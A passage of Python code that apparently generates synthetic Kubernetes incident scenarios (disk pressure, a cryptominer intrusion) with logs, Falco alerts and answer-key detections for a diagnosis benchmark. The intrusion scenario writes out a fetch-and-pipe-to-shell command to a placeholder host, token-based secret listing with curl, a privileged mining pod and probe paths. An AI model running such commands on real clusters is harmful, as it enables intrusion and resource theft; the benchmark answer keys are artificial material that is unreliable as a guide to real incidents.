    cap = bad["disk"]
    fill = np.clip((t_ns - fault) / (press - fault), 0, None)
    fs = cap * (0.58 - 0.495 * np.clip(fill, 0, 1)) - np.clip(fill - 1, 0, None) * 0.0
    w.node_fs[bad["name"]] = fs.copy()
    # evict: kubelet frees space by evicting pods; space recovers partially, stays low
    victims = [
        p
        for p in w.pods
        if p.node is bad and p.wl.kind == "Deployment" and p.wl.ns in ("media", "analytics")
    ]
    victims.sort(key=lambda p: p.name)
    t = press + int(20 * NS)
    w.node_conditions[bad["name"]].append(("DiskPressure", press, w.t1 + NS))
    bad["taints"] = [("node.kubernetes.io/disk-pressure", "NoSchedule", press)]
    w.event(
        "Node",
        bad["name"],
        None,
        bad["name"],
        "NodeHasDiskPressure",
        f"Node {bad['name']} status is now: NodeHasDiskPressure",
        press,
        comp="kubelet",
        host=bad["name"],
    )
    w.event(
        "Node",
        bad["name"],
        None,
        bad["name"],
        "EvictionThresholdMet",
        "Attempting to reclaim ephemeral-storage",
        press + 5 * NS,
        typ="Warning",
        comp="kubelet",
        host=bad["name"],
        count=len(victims) + 3,
        last=w.t1 - 40 * NS,
    )
    w.event(
        "Node",
        bad["name"],
        None,
        bad["name"],
        "FreeDiskSpaceFailed",
        f"Failed to garbage collect required amount of images. Attempted to free {int(w.rng.integers(9, 14)) * 1073741824} bytes, but only found 0 bytes eligible to free.",
        fault + 25 * 60 * NS,
        typ="Warning",
        comp="kubelet",
        host=bad["name"],
        count=4,
        last=press + 60 * NS,
    )
    for i, v in enumerate(victims):
        used = int(w.rng.integers(200_000, 2_400_000))
        msg = (
            f"The node was low on resource: ephemeral-storage. Threshold quantity: {int(cap * 0.1) // 1024}Ki, available: "
            f"{int(cap * 0.085) // 1024 - int(w.rng.integers(0, 90000))}Ki. Container {v.cstates[0].spec.name} was using {used}Ki, "
            f"request is 0, has larger consumption of ephemeral-storage. "
        )
        w.pod_event(v, "Evicted", msg, t, typ="Warning", ci=None)
        w.pod_event(v, "Killing", f"Stopping container {v.cstates[0].spec.name}", t + int(0.1 * NS))
        w.kill(v, t + int(w.rng.uniform(1, 3) * NS), "Error", 137, None)
        v.phase, v.reason, v.message = "Failed", "Evicted", msg
        # the ReplicaSet replaces it on another node
        rev = v.wl.revisions[-1]
        newp = w.add_pod(
            v.wl,
            t + int(w.rng.uniform(0.3, 1.2) * NS),
            node=w.pick_node(exclude=(bad["name"],)),
            rev=rev,
        )
        newp.cpu, newp.mem, newp.rps, newp.p99 = (
            v.cpu.copy(),
            v.mem.copy(),
            {k: x.copy() for k, x in v.rps.items()},
            None if v.p99 is None else v.p99.copy(),
        )
        newp.err_frac, newp.log_factor = np.zeros(len(w.grid)), v.log_factor
        if i == 1:
            w.event(
                "Pod",
                newp.name,
                newp.wl.ns,
                newp.uid,
                "FailedScheduling",
                "0/4 nodes are available: 1 node(s) had untolerated taint {node.kubernetes.io/disk-pressure: }, "
                "3 Insufficient memory. preemption: 0/4 nodes are available: 1 Preemption is not helpful for scheduling, "
                "3 No preemption victims found for incoming pod.",
                newp.created,
                typ="Warning",
                comp="default-scheduler",
            )
        t += int(w.rng.uniform(25, 70) * NS)
    rec = np.clip((t_ns - press) / (40 * 60 * NS), 0, 1)
    fs2 = np.where(t_ns >= press, cap * (0.085 + 0.03 * rec), fs)
    w.node_fs[bad["name"]] = fs2
    # a scrape gap: node-exporter on the bad node starved of IO for a while
    w.scrape_gaps.append((bad["name"], press + 3 * 60 * NS, press + 10 * 60 * NS))
    # the culprit on the host: a runaway log file outside any pod, visible only via node signals and kubelet
    w.node_cpu_extra[bad["name"]] = 0.35 * (fill > 0) * (fill < 1.3)
    hostlog = next(p for p in w.pods if p.wl.name == "node-exporter" and p.node is bad)
    w.log(
        hostlog,
        fault + 60 * NS,
        f"ts={F.ts_ms_iso(fault + 60 * NS)} caller=collector.go:169 level=error collector=textfile "
        'msg="collector failed" err="failed to read textfile collector directory: open /host/var/lib/node_exporter: too many open files"',
    )
    collectors = [p for p in w.pods if p.wl.name == "events-collector"]
    w.err_text["events-collector"] = [
        "failed to flush batch to clickhouse: write /var/spool/collector/batch-0042.tmp: no space left on device"
    ]
    for p in collectors:
        if p.node is bad:
            p.err_frac = 0.08 * ((t_ns > press - 15 * 60 * NS) & (t_ns < press + 5 * 60 * NS))
    _noisy(w, next(p for p in w.pods if p.wl.name == "dashboard"))
    _probe_blip(w, [p for p in w.pods if p.wl.name == "upload-api"][-1], 24.0)
    _long_line(w, collectors[0], w.at(50), 150)
    _malformed_cri(w, collectors[-1], w.at(101.2), "bad-ts")
    lifecycle_records(w)
    w.falco_alert(
        w.at(88),
        "Packet socket created in container",
        "Notice",
        "Packet socket was created in a container (evt_type=socket user=root user_uid=0 user_loginuid=-1 process=tcpdump "
        "proc_exepath=/usr/bin/tcpdump parent=sh command=tcpdump -i eth0 -c 200 port 8123 socket_info=domain=17(AF_PACKET) type=3 proto=768 "
        "container_id=0b4f7e21c9aa container_name=clickhouse container_image_repository=docker.io/clickhouse/clickhouse-server "
        "container_image_tag=24.3 k8s_pod_name=clickhouse-0 k8s_ns_name=analytics)",
        {
            "container.id": "0b4f7e21c9aa",
            "container.image.repository": "docker.io/clickhouse/clickhouse-server",
            "container.image.tag": "24.3",
            "container.name": "clickhouse",
            "evt.arg.domain": "AF_PACKET",
            "evt.type": "socket",
            "k8s.ns.name": "analytics",
            "k8s.pod.name": "clickhouse-0",
            "proc.cmdline": "tcpdump -i eth0 -c 200 port 8123",
            "proc.exepath": "/usr/bin/tcpdump",
            "proc.name": "tcpdump",
            "proc.pname": "sh",
            "user.loginuid": -1,
            "user.name": "root",
            "user.uid": 0,
        },
        ["T1040", "container", "maturity_stable", "mitre_credential_access", "network"],
        next(p for p in w.pods if p.name == "clickhouse-0").node["name"],
    )
    truth = _truth(
        w,
        ns=None,
        kind=None,
        wl=None,
        pod=None,
        container=None,
        node=bad["name"],
        level="node",
        fault_start=fault,
        category="node-pressure",
        description=f"Root filesystem of {bad['name']} fills up (host log growth); DiskPressure, kubelet evicts pods of several workloads, which reschedule elsewhere.",
    )
    truth["evicted_pods"] = sorted(v.name for v in victims)
    return w, truth


# =============================================================================== 4. cryptominer
def cryptominer(seed: int, scale: float) -> tuple[World, dict]:
    w = World("cryptominer", "prod-us-1", seed, scale, "2024-09-10T19:00:00Z", 2.0)
    _nodes(w, "eks", 4)
    _system(w)
    for ns in ("web", "api", "ci"):
        w.add_namespace(ns, 90)
    w.add_workload(
        Workload(
            "DaemonSet",
            "falco",
            "monitoring",
            0,
            [CSpec("falco", "docker.io/falcosecurity/falco-no-driver:0.37.1", readiness=None)],
            w.t0 - 80 * 86400 * NS,
            sa="falco",
            style="json",
            log_rate=0.001,
            cpu=0.05,
            mem=80 * MI,
            service=False,
            labels={"app.kubernetes.io/name": "falco"},
        )
    )
    reps = lambda k: max(1, round(k * scale))  # noqa: E731
    web = _apps(
        w,
        "web",
        [
            (
                "storefront",
                reps(3),
                "registry.example.com/web/storefront:2.31.0",
                3000,
                "json",
                20.0,
                0.1,
                220 * MI,
                {},
            ),
            (
                "catalog",
                reps(2),
                "registry.example.com/web/catalog:1.18.4",
                8080,
                "logfmt",
                12.0,
                0.07,
                150 * MI,
                {},
            ),
            (
                "sessions",
                1,
                "docker.io/library/redis:7.2.4",
                6379,
                "redis",
                0.0,
                0.02,
                40 * MI,
                {"kind": "StatefulSet", "log_rate": 0.003},
            ),
        ],
    )
    _apps(
        w,
        "api",
        [
            (
                "graphql-gateway",
                reps(2),
                "registry.example.com/api/gateway:0.40.1",
                4000,
                "json",
                15.0,
                0.12,
                210 * MI,
                {},
            ),
            (
                "inventory",
                reps(2),
                "registry.example.com/api/inventory:3.0.0",
                8080,
                "java",
                7.0,
                0.2,
                380 * MI,
                {},
            ),
        ],
    )
    _populate_all(w)
    w.base_signals()
    t_ns = w.grid * NS
    victim = next(p for p in w.pods if p.wl is web["storefront"])
    node = victim.node
    falco_host = node["name"]  # the falco chart sets FALCO_HOSTNAME from spec.nodeName
    attacker_ip = "203.0.113.77"
    c_id = victim.cstates[0].attempts[0].cid[:12]
    base_fields = {
        "container.id": c_id,
        "container.image.repository": "registry.example.com/web/storefront",
        "container.image.tag": "2.31.0",
        "container.name": "storefront",
        "k8s.ns.name": "web",
        "k8s.pod.name": victim.name,
    }
    ctx = (
        f"container_id={c_id} container_name=storefront container_image_repository=registry.example.com/web/storefront "
        f"container_image_tag=2.31.0 k8s_pod_name={victim.name} k8s_ns_name=web"
    )
    # --- benign: CI deploys catalog (new ReplicaSet), an SRE looks around
    cat = web["catalog"]
    t_ci = w.at(24.0)
    ci_sa = w.sa_user("ci", "deployer", w.uid())
    w.audit_event(
        t_ci,
        user=ci_sa,
        verb="patch",
        uri="/apis/apps/v1/namespaces/web/deployments/catalog?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
        resource="deployments",
        ns="web",
        name="catalog",
        group="apps",
        ips=["10.0.200.15"],
        ua="kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9",
        level="RequestResponse",
        request_object={
            "spec": {
                "template": {
                    "spec": {
                        "containers": [
                            {"image": "registry.example.com/web/catalog:1.18.5", "name": "catalog"}
                        ]
                    }
                }
            }
        },
        reason='RBAC: allowed by RoleBinding "deployer/web" of ClusterRole "edit" to ServiceAccount "deployer/ci"',
    )
    rev = w.add_revision(cat, t_ci + NS, {"catalog": "registry.example.com/web/catalog:1.18.5"})
    cat.generation += 1
    old_hash = cat.revisions[-2]["hash"]
    tt = t_ci + NS
    olds = [p for p in w.pods if p.wl is cat]
    for i, old in enumerate(olds):
        w.event(
            "Deployment",
            "catalog",
            "web",
            cat.uid,
            "ScalingReplicaSet",
            f"Scaled up replica set catalog-{rev['hash']} to {i + 1}" + (f" from {i}" if i else ""),
            tt,
            comp="deployment-controller",
            api_version="apps/v1",
        )
        np_ = w.add_pod(cat, tt + int(0.2 * NS), rev=rev)
        np_.cpu, np_.mem, np_.rps, np_.p99, np_.err_frac, np_.log_factor = (
            old.cpu,
            old.mem,
            old.rps,
            old.p99,
            old.err_frac,
            old.log_factor,
        )
        rt = np_.cstates[0].attempts[0].start + int(6 * NS)
        _retire_old_pod(w, cat, "web", old_hash, old, len(olds) - i, rt)
        tt = rt + NS
    _human(
        w,
        w.at(33),
        "sre-bob@example.com",
        "10.0.200.40",
        "get",
        "/api/v1/namespaces/web/pods?limit=500",
        "pods",
        "web",
    )
    # --- the attack
    t_exec = w.at(52.0)
    fault = t_exec
    exec_user = {"username": "dev-contractor-7", "groups": ["contractors", "system:authenticated"]}
    exec_uri = f"/api/v1/namespaces/web/pods/{victim.name}/exec?command=%2Fbin%2Fsh&container=storefront&stdin=true&stdout=true&tty=true"
    aid = w.uid()
    for stage, code, dt in (("ResponseStarted", 101, 0), ("ResponseComplete", 101, 4 * 60 * NS)):
        w.audit_event(
            t_exec + dt,
            user=exec_user,
            verb="create",
            uri=exec_uri,
            resource="pods",
            ns="web",
            name=victim.name,
            sub="exec",
            code=code,
            ips=[attacker_ip],
            ua="kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3",
            stage=stage,
            audit_id=aid,
            latency_ms=30.0 if dt == 0 else 240000.0,
            reason='RBAC: allowed by RoleBinding "contractors-debug/web" of ClusterRole "contractor-debug" to Group "contractors"',
        )
    w.falco_alert(
        t_exec + int(0.6 * NS),
        "Terminal shell in container",
        "Notice",
        f"A shell was spawned in a container with an attached terminal (evt_type=execve user=node user_uid=1000 user_loginuid=-1 "
        f"process=sh proc_exepath=/bin/sh parent=runc command=sh terminal=34816 exe_flags=EXE_WRITABLE {ctx})",
        {
            **base_fields,
            "evt.arg.flags": "EXE_WRITABLE",
            "evt.type": "execve",
            "proc.cmdline": "sh",
            "proc.exepath": "/bin/sh",
            "proc.name": "sh",
            "proc.pname": "runc",
            "proc.tty": 34816,
            "user.loginuid": -1,
            "user.name": "node",
            "user.uid": 1000,
        },
        ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
        falco_host,
    )
    t_api = t_exec + int(75 * NS)
    w.falco_alert(
        t_api,
        "Contact K8S API Server From Container",
        "Notice",
        f"Unexpected connection to K8s API Server from container (connection=10.244.0.0:41822->172.20.0.1:443 lport=443 rport=41822 "
        f"fd_type=ipv4 fd_proto=tcp evt_type=connect user=node user_uid=1000 user_loginuid=-1 process=curl proc_exepath=/usr/bin/curl "
        f"parent=sh command=curl -sk -H Authorization:\\ Bearer\\ *** https://172.20.0.1/api/v1/namespaces/web/secrets terminal=34816 {ctx})",
        {
            **base_fields,
            "evt.type": "connect",
            "fd.name": "10.244.0.0:41822->172.20.0.1:443",
            "fd.rip": "172.20.0.1",
            "fd.rport": 443,
            "proc.cmdline": "curl -sk -H Authorization: Bearer *** https://172.20.0.1/api/v1/namespaces/web/secrets",
            "proc.exepath": "/usr/bin/curl",
            "proc.name": "curl",
            "proc.pname": "sh",
            "user.name": "node",
            "user.uid": 1000,
        },
        ["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
        falco_host,
    )
    sa_uid = w.uid()
    jti = w.uid()
    sa_user = w.sa_user("web", "storefront", sa_uid, victim, jti)
    w.audit_event(
        t_api + int(0.05 * NS),
        user=sa_user,
        verb="list",
        uri="/api/v1/namespaces/web/secrets",
        resource="secrets",
        ns="web",
        ips=[victim.ip],
        ua="curl/8.5.0",
        reason='RBAC: allowed by RoleBinding "storefront-edit/web" of ClusterRole "edit" to ServiceAccount "storefront/web"',
    )
    t_ext = t_api + int(6 * 60 * NS)
    w.audit_event(
        t_ext,
        user=sa_user,
        verb="list",
        uri="/api/v1/secrets?limit=500",
        resource="secrets",
        ips=[attacker_ip],
        ua="kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3",
        code=403,
        decision="forbid",
        reason="",
        status={
            "metadata": {},
            "status": "Failure",
            "message": 'secrets is forbidden: User "system:serviceaccount:web:storefront" cannot list resource "secrets" in API group "" at the cluster scope',
            "reason": "Forbidden",
            "details": {"kind": "secrets"},
            "code": 403,
        },
    )
    w.audit_event(
        t_ext + int(8 * NS),
        user=sa_user,
        verb="list",
        uri="/api/v1/namespaces/web/secrets?limit=500",
        resource="secrets",
        ns="web",
        ips=[attacker_ip],
        ua="kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3",
        reason='RBAC: allowed by RoleBinding "storefront-edit/web" of ClusterRole "edit" to ServiceAccount "storefront/web"',
    )
    # drop a binary and mine from the victim
    t_drop = t_exec + int(3 * 60 * NS)
    w.falco_alert(
        t_drop,
        "Drop and execute new binary in container",
        "Critical",
        f"Executing binary not part of base image (proc_exe=/tmp/.x/kworkerd proc_sname=sh gparent=runc proc_exe_ino_ctime=1725998{int(w.rng.integers(100000, 999999))} "
        f"proc_exe_ino_mtime=1725998{int(w.rng.integers(100000, 999999))} proc_exe_ino_ctime_duration_proc_start=412 proc_cwd=/tmp/.x/ "
        f"container_start_ts={victim.cstates[0].attempts[0].start} evt_type=execve user=node user_uid=1000 user_loginuid=-1 process=kworkerd "
        f"proc_exepath=/tmp/.x/kworkerd parent=sh command=kworkerd -c config.json terminal=34816 exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER {ctx})",
        {
            **base_fields,
            "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
            "evt.type": "execve",
            "proc.cmdline": "kworkerd -c config.json",
            "proc.cwd": "/tmp/.x/",
            "proc.exepath": "/tmp/.x/kworkerd",
            "proc.name": "kworkerd",
            "proc.pname": "sh",
            "proc.sname": "sh",
            "user.loginuid": -1,
            "user.name": "node",
            "user.uid": 1000,
        },
        ["T1562", "container", "maturity_stable", "mitre_defense_evasion", "process"],
        falco_host,
    )
    pool_ip = "198.51.100.203"
    for k in range(int(6 * max(1, scale))):
        tk = t_drop + int((4 + k * 17 + float(w.rng.uniform(0, 5))) * NS)
        w.falco_alert(
            tk,
            "Detect outbound connections to common miner pool ports",
            "Critical",
            f"Outbound connection to IP/Port flagged by https://cryptoioc.ch (ip={pool_ip} port=3333 command=kworkerd -c config.json "
            f"pid={int(w.rng.integers(200, 900))} {ctx})",
            {
                **base_fields,
                "evt.type": "connect",
                "fd.rip": pool_ip,
                "fd.rport": 3333,
                "fd.sip": pool_ip,
                "proc.cmdline": "kworkerd -c config.json",
                "proc.name": "kworkerd",
                "proc.pid": int(w.rng.integers(200, 900)),
            },
            ["T1496", "container", "maturity_sandbox", "mitre_impact", "network"],
            falco_host,
        )
    mine = t_ns >= t_drop
    victim.cpu = victim.cpu + 1.6 * mine * (1 + w.noise(0.03))
    w.node_cpu_extra[node["name"]] = 0.0
    # privileged pod created with the stolen token
    t_pod = t_ext + int(45 * NS)
    priv_wl = w.add_workload(
        Workload(
            "Pod",
            "kube-metrics-helper",
            "web",
            1,
            [
                CSpec(
                    "helper",
                    "docker.io/library/alpine:3.19",
                    readiness=None,
                    privileged=True,
                    cpu_req="10m",
                    mem_req="16Mi",
                )
            ],
            t_pod,
            sa="storefront",
            style="json",
            log_rate=0.0,
            cpu=1.8,
            mem=60 * MI,
            service=False,
            labels={"run": "kube-metrics-helper"},
        )
    )
    priv_wl.revisions.append(
        {"hash": "", "uid": "", "created": t_pod, "images": {}, "number": 1, "replicas_end": 1}
    )
    other = [n for n in w.nodes if n is not node][1]
    priv = w.add_pod(priv_wl, t_pod, node=other, name="kube-metrics-helper")
    priv.cpu = np.where(t_ns > t_pod + 20 * NS, 1.8, 0.0) * (1 + w.noise(0.03))
    priv.mem = np.full(len(w.grid), 60.0 * MI)
    priv.err_frac = np.zeros(len(w.grid))
    w.audit_event(
        t_pod,
        user=sa_user,
        verb="create",
        uri="/api/v1/namespaces/web/pods?fieldManager=kubectl-run",
        resource="pods",
        ns="web",
        name="kube-metrics-helper",
        code=201,
        ips=[attacker_ip],
        ua="kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3",
        level="RequestResponse",
        request_object={
            "kind": "Pod",
            "apiVersion": "v1",
            "metadata": {
                "name": "kube-metrics-helper",
                "namespace": "web",
                "labels": {"run": "kube-metrics-helper"},
            },
            "spec": {
                "hostPID": True,
                "containers": [
                    {
                        "name": "helper",
                        "image": "alpine:3.19",
                        "command": ["/bin/sh", "-c", "wget -qO- http://198.51.100.203/k.sh | sh"],
                        "securityContext": {"privileged": True},
                    }
                ],
            },
        },
        reason='RBAC: allowed by RoleBinding "storefront-edit/web" of ClusterRole "edit" to ServiceAccount "storefront/web"',
        extra_ann={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
    )
    helper_host = other["name"]
    for k in range(int(4 * max(1, scale))):
        tk = t_pod + int((40 + k * 23) * NS)
        cid2 = priv.cstates[0].attempts[0].cid[:12]
        w.falco_alert(
            tk,
            "Detect outbound connections to common miner pool ports",
            "Critical",
            f"Outbound connection to IP/Port flagged by https://cryptoioc.ch (ip={pool_ip} port=3333 command=xmrig --donate-level 1 "
            f"pid={int(w.rng.integers(200, 900))} container_id={cid2} container_name=helper container_image_repository=docker.io/library/alpine "
            "container_image_tag=3.19 k8s_pod_name=kube-metrics-helper k8s_ns_name=web)",
            {
                "container.id": cid2,
                "container.image.repository": "docker.io/library/alpine",
                "container.image.tag": "3.19",
                "container.name": "helper",
                "evt.type": "connect",
                "fd.rip": pool_ip,
                "fd.rport": 3333,
                "fd.sip": pool_ip,
                "k8s.ns.name": "web",
                "k8s.pod.name": "kube-metrics-helper",
                "proc.cmdline": "xmrig --donate-level 1",
                "proc.name": "xmrig",
                "proc.pid": int(w.rng.integers(200, 900)),
            },
            ["T1496", "container", "maturity_sandbox", "mitre_impact", "network"],
            helper_host,
        )
    w.log(
        priv,
        t_pod + 25 * NS,
        " * ABOUT        XMRig/6.21.0 gcc/10.2.1 (built for Linux x86-64, 64 bit)",
    )
    w.log(priv, t_pod + 26 * NS, f" * POOL #1      {pool_ip}:3333 algo auto")
    w.log(
        priv,
        t_pod + 31 * NS,
        "[2024-09-10 20:00:31.402]  net      use pool 198.51.100.203:3333  198.51.100.203",
    )
    # benign falco noise elsewhere: an SRE debugging shell in the gateway (no tty → different rule)
    gw = next(p for p in w.pods if p.wl.name == "graphql-gateway")
    gw_host = gw.node["name"]
    w.falco_alert(
        w.at(34),
        "Read sensitive file untrusted",
        "Warning",
        "Sensitive file opened for reading by non-trusted program (file=/etc/shadow gparent=containerd-shim ggparent=systemd "
        "gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=pam_tally2 proc_exepath=/usr/sbin/pam_tally2 "
        f"parent=sh command=pam_tally2 --reset terminal=0 container_id={gw.cstates[0].attempts[0].cid[:12]} container_name=graphql-gateway "
        f"container_image_repository=registry.example.com/api/gateway container_image_tag=0.40.1 k8s_pod_name={gw.name} k8s_ns_name=api)",
        {
            "container.id": gw.cstates[0].attempts[0].cid[:12],
            "container.image.repository": "registry.example.com/api/gateway",
            "container.image.tag": "0.40.1",
            "container.name": "graphql-gateway",
            "evt.type": "openat",
            "fd.name": "/etc/shadow",
            "k8s.ns.name": "api",
            "k8s.pod.name": gw.name,
            "proc.cmdline": "pam_tally2 --reset",
            "proc.name": "pam_tally2",
            "user.name": "root",
            "user.uid": 0,
        },
        ["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"],
        gw_host,
    )
    # the web app itself logs the probing that preceded the exec (recon), and slows down once the miner runs
    w.err_text["storefront"] = [
        "upstream timeout rendering product page",
        "render failed: worker pool saturated",
    ]
    victim.err_frac = 0.05 * mine
    victim.p99 = victim.p99 * (1 + 4 * mine)
    for k, path in enumerate(
        ["/.env", "/api/debug/vars", "/actuator/env", "/server-status", "/api/render?tpl={{7*7}}"]
    ):
        tk = t_exec - int((20 - k * 3) * 60 * NS)
        w.log(
            victim,
            tk,
            json.dumps(
                {
                    "level": "warn",
                    "ts": round(tk / NS, 6),
                    "caller": "server/router.go:77",
                    "msg": "unknown route",
                    "method": "GET",
                    "path": path,
                    "status": 404,
                    "remote_addr": attacker_ip,
                    "user_agent": "Mozilla/5.0 zgrab/0.x",
                },
                separators=(",", ":"),
            ),
        )
    _long_line(w, [p for p in w.pods if p.wl.name == "graphql-gateway"][1], w.at(70), 180)
    _malformed_cri(w, [p for p in w.pods if p.wl.name == "catalog"][-1], w.at(90), "truncated")
    lifecycle_records(w)
    # a cut Falco line (the agent was restarted mid-write)
    w.falco.append((w.at(110), '{"hostname":"' + gw_host + '","output":"21:50:02.114'))
    w.malformed["falco/falco.json"] = 1
    det = [
        {
            "id": "audit.pod-exec-unusual-subject",
            "subject": "dev-contractor-7",
            "pod": victim.name,
            "time": F.ts_s(t_exec),
        },
        {
            "id": "falco.terminal-shell-in-container",
            "subject": "node",
            "pod": victim.name,
            "time": F.ts_s(t_exec + int(0.6 * NS)),
        },
        {
            "id": "falco.contact-k8s-api-from-container",
            "subject": "node",
            "pod": victim.name,
            "time": F.ts_s(t_api),
        },
        {
            "id": "audit.secrets-list-by-serviceaccount",
            "subject": "system:serviceaccount:web:storefront",
            "pod": victim.name,
            "time": F.ts_s(t_api),
        },
        {
            "id": "falco.drop-and-execute-new-binary",
            "subject": "node",
            "pod": victim.name,
            "time": F.ts_s(t_drop),
        },
        {
            "id": "falco.miner-pool-connection",
            "subject": "kworkerd",
            "pod": victim.name,
            "time": F.ts_s(t_drop + 4 * NS),
        },
        {
            "id": "audit.serviceaccount-token-unusual-source-ip",
            "subject": "system:serviceaccount:web:storefront",
            "pod": victim.name,
            "time": F.ts_s(t_ext),
        },
        {
            "id": "audit.privileged-pod-created",
            "subject": "system:serviceaccount:web:storefront",
            "pod": "kube-metrics-helper",
            "time": F.ts_s(t_pod),
        },
        {
            "id": "falco.miner-pool-connection",
            "subject": "xmrig",
            "pod": "kube-metrics-helper",
            "time": F.ts_s(t_pod + 40 * NS),
        },
    ]
    truth = _truth(
        w,
        ns="web",
        kind="Deployment",
        wl="storefront",
        pod=victim.name,
        container="storefront",
        node=node["name"],
        level="pod",
        fault_start=fault,
        category="intrusion",
        description="Attacker with a contractor credential execs into a storefront pod, steals its service-account token, lists secrets, starts a miner and a privileged mining pod.",
        detections=det,
    )
    truth["attacker_ips"] = [attacker_ip]
    _cryptominer_posture(w)
    return w, truth


_RBAC = "rbac.authorization.k8s.io"
# The built-in "edit" ClusterRole's rules (Kubernetes 1.29, aggregated), less the read-only
# ones that posture does not weigh.
_EDIT_RULES = [
    {
        "apiGroups": [""],
        "resources": ["pods/attach", "pods/exec", "pods/portforward", "pods/proxy", "secrets"],
        "verbs": ["get", "list", "watch"],
    },
    {"apiGroups": [""], "resources": ["serviceaccounts"], "verbs": ["impersonate"]},
    {
        "apiGroups": [""],
        "resources": ["pods", "pods/attach", "pods/exec", "pods/portforward", "pods/proxy"],
        "verbs": ["create", "delete", "deletecollection", "patch", "update"],
    },
    {
        "apiGroups": [""],
        "resources": ["configmaps", "secrets", "serviceaccounts", "services"],
        "verbs": ["create", "delete", "deletecollection", "patch", "update"],
    },
    {
        "apiGroups": ["apps"],
        "resources": ["daemonsets", "deployments", "replicasets", "statefulsets"],
        "verbs": ["create", "delete", "deletecollection", "patch", "update"],
    },
    {
        "apiGroups": ["batch"],
        "resources": ["cronjobs", "jobs"],
        "verbs": ["create", "delete", "deletecollection", "patch", "update"],
    },
    {
        "apiGroups": [""],
        "resources": ["configmaps", "endpoints", "pods", "services", "serviceaccounts"],
        "verbs": ["get", "list", "watch"],
    },
]


def _object(w: World, api: str, kind: str, name: str, ns: str | None, **fields) -> dict:
    """An RBAC or NetworkPolicy object; its uid from its name, not from ``w.rng``."""
    meta = {
        "creationTimestamp": F.ts_s(w.t0 - 120 * 86400 * NS),
        "name": name,
        "uid": str(uuid.uuid5(uuid.NAMESPACE_URL, f"obskit/{w.name}/{kind}/{ns}/{name}")),
    }
    if ns:
        meta["namespace"] = ns
    return {"apiVersion": api, "kind": kind, "metadata": meta, **fields}


def _binding(w: World, name: str, ns: str, role: str, subject: dict) -> dict:
    ref = {"apiGroup": _RBAC, "kind": "ClusterRole", "name": role}
    return _object(w, f"{_RBAC}/v1", "RoleBinding", name, ns, roleRef=ref, subjects=[subject])


def _cryptominer_posture(w: World) -> None:
    """The RBAC the audit log's decisions name (storefront's and the deployer's "edit" in web,
    the contractors' exec), Pod Security labels, and api's default-deny NetworkPolicy."""
    sa = lambda name, ns: {"kind": "ServiceAccount", "name": name, "namespace": ns}  # noqa: E731
    contractors = {"apiGroup": _RBAC, "kind": "Group", "name": "contractors"}
    debug_rules = [
        {"apiGroups": [""], "resources": ["pods", "pods/log"], "verbs": ["get", "list"]},
        {"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]},
    ]
    w.objects["rbac"] = [
        _object(w, f"{_RBAC}/v1", "ClusterRole", "edit", None, rules=_EDIT_RULES),
        _object(w, f"{_RBAC}/v1", "ClusterRole", "contractor-debug", None, rules=debug_rules),
        _binding(w, "storefront-edit", "web", "edit", sa("storefront", "web")),
        _binding(w, "deployer", "web", "edit", sa("deployer", "ci")),
        _binding(w, "contractors-debug", "web", "contractor-debug", contractors),
    ]
    deny = {"podSelector": {}, "policyTypes": ["Ingress"]}
    w.objects["networkpolicies"] = [
        _object(w, "networking.k8s.io/v1", "NetworkPolicy", "default-deny", "api", spec=deny)
    ]
    label = "pod-security.kubernetes.io/"
    w.namespace_labels["api"] = {label + "enforce": "baseline", label + "warn": "restricted"}
    w.namespace_labels["web"] = {label + "warn": "baseline"}


SCENARIOS = {
    "bad-rollout": bad_rollout,
    "checkout-oom": checkout_oom,
    "cryptominer": cryptominer,
    "node-pressure": node_pressure,
}


def _retire_old_pod(w, deployment, ns: str, old_hash: str, old, before: int, t: int) -> None:
    """One step of a rolling update's scale-down: the Deployment scales the old ReplicaSet
    from ``before`` to ``before - 1`` at ``t``, the ReplicaSet deletes ``old``, the pod goes."""
    w.event(
        "Deployment",
        deployment.name,
        ns,
        deployment.uid,
        "ScalingReplicaSet",
        f"Scaled down replica set {deployment.name}-{old_hash} to {before - 1} from {before}",
        t,
        comp="deployment-controller",
        api_version="apps/v1",
    )
    w.event(
        "ReplicaSet",
        f"{deployment.name}-{old_hash}",
        ns,
        deployment.revisions[-2]["uid"],
        "SuccessfulDelete",
        f"Deleted pod: {old.name}",
        t + int(0.2 * NS),
        comp="replicaset-controller",
        api_version="apps/v1",
    )
    w.delete_pod(old, t + int(0.3 * NS))


# =============================================================================== 5. falco-disabled
_ATTACKER_IP = "203.0.113.45"
_ATTACKER_UA = "kubectl/v1.30.1 (linux/amd64) kubernetes/6911225"
_CI_UA = "kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9"
_DEPLOYER_REASON = 'RBAC: allowed by ClusterRoleBinding "ci-deployer" of ClusterRole "ci-deployer" to ServiceAccount "deployer/ci"'


def falco_disabled(seed: int, scale: float) -> tuple[World, dict]:
    """The CI deployer's leaked token moves Falco off one node, then mines in a pod there."""
    w = World("falco-disabled", "prod-us-2", seed, scale, "2024-11-06T02:00:00Z", 2.0)
    _nodes(w, "eks", 4)
    _system(w)
    for ns in ("web", "api", "ci"):
        w.add_namespace(ns, 150)
    falco = w.add_workload(
        Workload(
            kind="DaemonSet",
            name="falco",
            ns="monitoring",
            replicas=0,
            containers=[
                CSpec("falco", "docker.io/falcosecurity/falco-no-driver:0.38.1", readiness=None)
            ],
            created=w.t0 - 60 * 86400 * NS,
            sa="falco",
            log_rate=0.001,
            cpu=0.05,
            mem=80 * MI,
            service=False,
            labels={"app.kubernetes.io/name": "falco"},
            update_strategy={"type": "OnDelete"},
        )
    )
    _falco_disabled_apps(w, scale)
    _populate_all(w)
    w.base_signals()
    ci = w.sa_user("ci", "deployer", w.uid())
    _ci_deploys(w, ci)
    victim = next(p for p in w.pods if p.wl.name == "buildkitd")
    node = victim.node
